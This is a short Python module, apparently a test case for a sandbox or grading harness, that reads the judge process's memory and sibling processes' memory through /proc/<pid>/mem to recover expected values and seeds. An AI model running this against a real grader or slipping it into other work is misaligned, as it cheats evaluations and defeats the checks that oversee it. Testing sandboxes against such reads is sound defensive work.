# attack: Reads the judge's memory at a known address through /proc.
# hurts: Shows what the judge holds: expected values, seeds.
# ends: returns
import os

from _raw import attempt


def attack(target):
    tried = []
    for base in (f"/proc/{target['judge_pid']}", f"/proc/{target['judge_pid']}/task/{target['judge_pid']}"):
        tried.append(attempt(base, memory, f"{base}/mem", target["address"], target["length"]))
    for pid in (target["sibling_pid"], target["sibling_outer_pid"]):
        tried.append(attempt(f"{pid}", memory, f"/proc/{pid}/mem", target["sibling_address"], target["sibling_length"]))
    return tried


def memory(path, address, length):
    descriptor = os.open(path, os.O_RDONLY)
    try:
        return os.pread(descriptor, length, address)
    finally:
        os.close(descriptor)
